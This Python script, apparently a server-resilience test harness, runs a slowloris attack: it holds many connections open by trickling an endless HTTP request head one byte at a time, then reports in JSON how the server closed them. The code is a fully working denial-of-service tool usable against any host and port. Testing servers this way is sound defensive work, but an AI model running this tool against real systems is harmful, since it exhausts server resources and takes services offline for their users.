#!/usr/bin/env python3
"""slowloris.py HOST PORT OUT.json [options]: many slow request heads.

Opens --conns connections (non-blocking, one thread), then sends each one
byte of a request head every --every ms, a head that never ends, for at
most --seconds.  Writes READY (the time every connection was open and had
sent its first byte) as soon as that holds, and at the end OUT.json: how
many connected, how each ended (an HTTP status line read, or closed by the
server: EOF or reset) and how long after its connect, how many were still
open when the time ran out.
"""
import argparse
import errno
import json
import os
import selectors
import socket
import sys
import time

HEAD = (b"GET /slow HTTP/1.1\r\nHost: slowloris\r\nUser-Agent: slowloris\r\n"
        b"X-Slow: " + b"a" * 4096)


class Conn:
    __slots__ = ("sock", "sent", "opened", "status", "ended", "how", "got")

    def __init__(self, sock):
        self.sock = sock
        self.sent = 0
        self.opened = None
        self.status = None
        self.ended = None
        self.how = None
        self.got = b""


def write_atomic(path, data):
    with open(path + ".tmp", "w") as f:
        f.write(data)
    os.rename(path + ".tmp", path)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("out")
    ap.add_argument("--conns", type=int, default=1000)
    ap.add_argument("--every", type=float, default=500, help="ms per byte")
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--ready", default=None)
    a = ap.parse_args()

    start = time.monotonic()
    deadline = start + a.seconds
    sel = selectors.DefaultSelector()
    conns = []
    connect_errors = {}

    def end(c, how):
        if c.ended is None:
            c.ended = time.monotonic()
            c.how = how
            sel.unregister(c.sock)
            c.sock.close()

    # Connect in batches the listen backlog can take.
    for i in range(a.conns):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        rc = s.connect_ex((a.host, a.port))
        if rc not in (0, errno.EINPROGRESS):
            connect_errors[errno.errorcode.get(rc, str(rc))] = \
                connect_errors.get(errno.errorcode.get(rc, str(rc)), 0) + 1
            s.close()
            continue
        c = Conn(s)
        conns.append(c)
        sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ, c)
        if i % 100 == 99:
            time.sleep(0.02)

    ready = False
    per_tick = 0.02
    nconn = len(conns)
    # Each connection is due a byte once per --every; spread them out.
    step = max(1, int(nconn * per_tick * 1000 / a.every))
    cursor = 0
    while time.monotonic() < deadline:
        for key, ev in sel.select(per_tick):
            c = key.data
            if ev & selectors.EVENT_WRITE and c.opened is None:
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    end(c, "connect:" + errno.errorcode.get(err, str(err)))
                    continue
                c.opened = time.monotonic()
                try:
                    c.sock.send(HEAD[:1])
                    c.sent = 1
                except OSError as e:
                    end(c, "send:" + errno.errorcode.get(e.errno, "?"))
                    continue
                sel.modify(c.sock, selectors.EVENT_READ, c)
            elif ev & selectors.EVENT_READ:
                try:
                    d = c.sock.recv(4096)
                except ConnectionResetError:
                    end(c, "reset")
                    continue
                except OSError as e:
                    end(c, "recv:" + errno.errorcode.get(e.errno, "?"))
                    continue
                if not d:
                    end(c, "eof")
                    continue
                c.got += d[:64 - len(c.got)] if len(c.got) < 64 else b""
                if c.status is None and b"\r\n" in c.got:
                    line = c.got.split(b"\r\n", 1)[0].split()
                    if len(line) >= 2 and line[1].isdigit():
                        c.status = int(line[1])
        now = time.monotonic()
        live = [c for c in conns if c.ended is None]
        if not ready and all(c.opened is not None for c in live) and \
                len(live) == nconn:
            ready = True
            if a.ready:
                write_atomic(a.ready, "%f\n" % time.time())
        if not live:
            break
        # The next slice of connections gets its next byte.
        for _ in range(step):
            c = conns[cursor % nconn]
            cursor += 1
            if c.ended is not None or c.opened is None or \
                    c.sent >= len(HEAD):
                continue
            try:
                c.sock.send(HEAD[c.sent:c.sent + 1])
                c.sent += 1
            except BlockingIOError:
                pass
            except OSError as e:
                end(c, "send:" + errno.errorcode.get(e.errno, "?"))

    res = {"conns": a.conns, "connected": sum(1 for c in conns if c.opened),
           "connect_errors": connect_errors,
           "open_at_end": 0, "ended": {}, "status": {},
           "max_life": 0.0, "min_life": None, "bytes_sent_max": 0,
           "all_ready": ready}
    for c in conns:
        res["bytes_sent_max"] = max(res["bytes_sent_max"], c.sent)
        if c.ended is None:
            res["open_at_end"] += 1
            c.sock.close()
            continue
        res["ended"][c.how] = res["ended"].get(c.how, 0) + 1
        if c.status is not None:
            k = str(c.status)
            res["status"][k] = res["status"].get(k, 0) + 1
        if c.opened is not None:
            life = c.ended - c.opened
            res["max_life"] = max(res["max_life"], life)
            if res["min_life"] is None or life < res["min_life"]:
                res["min_life"] = life
    write_atomic(a.out, json.dumps(res, sort_keys=True))


if __name__ == "__main__":
    sys.exit(main())
